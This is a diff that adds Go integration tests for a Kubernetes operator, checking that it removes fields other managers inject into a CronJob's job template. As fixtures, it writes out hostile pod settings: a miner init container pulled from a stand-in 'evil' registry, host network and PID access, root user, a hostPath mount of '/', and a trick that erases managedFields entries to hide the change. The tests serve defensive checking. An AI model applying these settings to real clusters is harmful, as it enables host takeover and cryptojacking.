@@ -1,0 +1,180 @@
+/*
+Copyright 2026 The platform-operator Authors.
+
+Licensed under the Apache License, Version 2.0 (the "License");
+you may not use this file except in compliance with the License.
+You may obtain a copy of the License at
+
+    http://www.apache.org/licenses/LICENSE-2.0
+
+Unless required by applicable law or agreed to in writing, software
+distributed under the License is distributed on an "AS IS" BASIS,
+WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+See the License for the specific language governing permissions and
+limitations under the License.
+*/
+
+package integration
+
+import (
+	"context"
+	"encoding/json"
+	"slices"
+	"testing"
+	"time"
+
+	. "github.com/onsi/gomega"
+	batchv1 "k8s.io/api/batch/v1"
+	corev1 "k8s.io/api/core/v1"
+	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
+	batchv1ac "k8s.io/client-go/applyconfigurations/batch/v1"
+	corev1ac "k8s.io/client-go/applyconfigurations/core/v1"
+	"k8s.io/utils/ptr"
+	"sigs.k8s.io/controller-runtime/pkg/client"
+
+	platformv1 "github.com/example/platform-operator/api/v1"
+	"github.com/example/platform-operator/internal/controller/scheduletask"
+	"github.com/example/platform-operator/internal/testutil"
+)
+
+// templateManagers lists the field managers other than the operator's that
+// hold fields of the CronJob's job template.
+func templateManagers(cj *batchv1.CronJob) []string {
+	var out []string
+	for _, mf := range cj.ManagedFields {
+		if mf.Manager == scheduletask.FieldManager || mf.Subresource != "" || mf.FieldsV1 == nil {
+			continue
+		}
+		var fields struct {
+			Spec map[string]any `json:"f:spec"`
+		}
+		if json.Unmarshal(mf.FieldsV1.GetRawBytes(), &fields) == nil && fields.Spec["f:jobTemplate"] != nil {
+			out = append(out, mf.Manager)
+		}
+	}
+	return out
+}
+
+// settledCronJob waits until the CronJob's resourceVersion holds still for
+// two seconds and returns it.
+func settledCronJob(g Gomega, st *platformv1.ScheduleTask) *batchv1.CronJob {
+	var cj *batchv1.CronJob
+	g.Eventually(func(g Gomega) {
+		first := cronJobOf(g, st)
+		time.Sleep(2 * time.Second)
+		cj = cronJobOf(g, st)
+		g.Expect(cj.ResourceVersion).To(Equal(first.ResourceVersion))
+	}, timeout, poll).Should(Succeed())
+	return cj
+}
+
+// expectIdle asserts that the operator's passes write the CronJob no more,
+// through several forced resyncs.
+func expectIdle(g Gomega, st *platformv1.ScheduleTask) {
+	rv := settledCronJob(g, st).ResourceVersion
+	time.Sleep(2*resyncPeriod + time.Second)
+	g.Expect(cronJobOf(g, st).ResourceVersion).To(Equal(rv), "the operator wrote an unchanged CronJob")
+}
+
+func TestScheduleTask_FieldsAnotherManagerAppliedToTheJobTemplateAreRemoved(t *testing.T) {
+	g := NewWithT(t)
+	ctx := context.Background()
+	ns := newNamespace(t)
+	st := testutil.NewScheduleTask(ns, "implanted")
+	createTask(t, st)
+	settledCronJob(g, st)
+
+	// A co-tenant who may patch CronJobs applies an init container and the
+	// host's network to every run of the task, under a manager of its own.
+	implant := batchv1ac.CronJob(st.Name, ns).WithSpec(batchv1ac.CronJobSpec().WithJobTemplate(
+		batchv1ac.JobTemplateSpec().WithSpec(batchv1ac.JobSpec().WithTemplate(corev1ac.PodTemplateSpec().WithSpec(
+			corev1ac.PodSpec().WithHostNetwork(true).WithInitContainers(
+				corev1ac.Container().WithName("implant").WithImage("evil.example.com/miner:1")))))))
+	g.Expect(k8sClient.Apply(ctx, implant, client.FieldOwner("co-tenant"), client.ForceOwnership)).To(Succeed())
+
+	g.Eventually(func(g Gomega) {
+		cj := cronJobOf(g, st)
+		ps := cj.Spec.JobTemplate.Spec.Template.Spec
+		g.Expect(ps.InitContainers).To(BeEmpty())
+		g.Expect(ps.HostNetwork).To(BeFalse())
+		g.Expect(templateManagers(cj)).To(BeEmpty(), "managedFields still give the co-tenant template fields")
+		// The operator's own fields are as before.
+		g.Expect(ps.Containers).To(HaveLen(1))
+		g.Expect(ps.Containers[0].Image).To(Equal("busybox:1.36"))
+	}, timeout, poll).Should(Succeed())
+	g.Eventually(func(g Gomega) {
+		g.Expect(eventsAbout(g, ns, st.Name, "JobTemplateRestored")).To(ConsistOf(And(
+			ContainSubstring("co-tenant"),
+			ContainSubstring("spec.jobTemplate.spec.template.spec.initContainers"),
+			ContainSubstring("spec.jobTemplate.spec.template.spec.hostNetwork"))))
+	}, timeout, poll).Should(Succeed())
+
+	expectIdle(g, st)
+	g.Expect(eventsAbout(g, ns, st.Name, "JobTemplateRestored")).To(HaveLen(1))
+}
+
+func TestScheduleTask_FieldsAnotherManagerUpdatedIntoTheJobTemplateAreRemoved(t *testing.T) {
+	// The same through a plain update (kubectl edit, a client's Update): a
+	// root pod security context and a host path volume.
+	g := NewWithT(t)
+	ctx := context.Background()
+	ns := newNamespace(t)
+	st := testutil.NewScheduleTask(ns, "edited-in")
+	createTask(t, st)
+	cj := settledCronJob(g, st)
+
+	ps := &cj.Spec.JobTemplate.Spec.Template.Spec
+	ps.SecurityContext.RunAsUser = ptr.To[int64](0)
+	ps.Volumes = []corev1.Volume{{Name: "host", VolumeSource: corev1.VolumeSource{
+		HostPath: &corev1.HostPathVolumeSource{Path: "/"}}}}
+	g.Expect(k8sClient.Update(ctx, cj, client.FieldOwner("kubectl-edit"))).To(Succeed())
+
+	g.Eventually(func(g Gomega) {
+		got := cronJobOf(g, st).Spec.JobTemplate.Spec.Template.Spec
+		g.Expect(got.SecurityContext.RunAsUser).To(BeNil())
+		g.Expect(got.Volumes).To(BeEmpty())
+		g.Expect(eventsAbout(g, ns, st.Name, "JobTemplateRestored")).To(ConsistOf(And(
+			ContainSubstring("kubectl-edit"),
+			ContainSubstring("spec.jobTemplate.spec.template.spec.securityContext.runAsUser"),
+			ContainSubstring("spec.jobTemplate.spec.template.spec.volumes"))))
+	}, timeout, poll).Should(Succeed())
+	expectIdle(g, st)
+}
+
+func TestScheduleTask_FieldWhoseOwnershipWasErasedIsRemoved(t *testing.T) {
+	// Whoever may update a CronJob may also rewrite its managedFields and
+	// hide an addition from them: here by adding the host's PID namespace
+	// while the CronJob is not the task's (so the operator keeps off), then
+	// giving it back with the entry that names the addition erased. The
+	// template's hash still shows it.
+	g := NewWithT(t)
+	ctx := context.Background()
+	ns := newNamespace(t)
+	st := testutil.NewScheduleTask(ns, "hidden")
+	createTask(t, st)
+	cj := settledCronJob(g, st)
+	owners := cj.OwnerReferences
+
+	cj.OwnerReferences = nil
+	cj.Spec.JobTemplate.Spec.Template.Spec.HostPID = true
+	g.Expect(k8sClient.Update(ctx, cj, client.FieldOwner("sneaky"))).To(Succeed())
+	g.Eventually(func(g Gomega) {
+		task := getTask(g, client.ObjectKeyFromObject(st))
+		g.Expect(task.Status.Conditions).To(ContainElement(And(
+			HaveField("Type", platformv1.ConditionReady), HaveField("Status", metav1.ConditionFalse))))
+	}, timeout, poll).Should(Succeed())
+
+	cj = cronJobOf(g, st)
+	g.Expect(cj.Spec.JobTemplate.Spec.Template.Spec.HostPID).To(BeTrue())
+	cj.OwnerReferences = owners
+	cj.ManagedFields = slices.DeleteFunc(cj.ManagedFields,
+		func(mf metav1.ManagedFieldsEntry) bool { return mf.Manager == "sneaky" })
+	g.Expect(k8sClient.Update(ctx, cj, client.FieldOwner("sneaky"))).To(Succeed())
+	g.Expect(templateManagers(cronJobOf(g, st))).To(BeEmpty(), "the test failed to hide the field")
+
+	g.Eventually(func(g Gomega) {
+		g.Expect(cronJobOf(g, st).Spec.JobTemplate.Spec.Template.Spec.HostPID).To(BeFalse())
+		g.Expect(eventsAbout(g, ns, st.Name, "JobTemplateRestored")).To(ConsistOf(ContainSubstring("no field manager owns")))
+	}, timeout, poll).Should(Succeed())
+	expectIdle(g, st)
+}
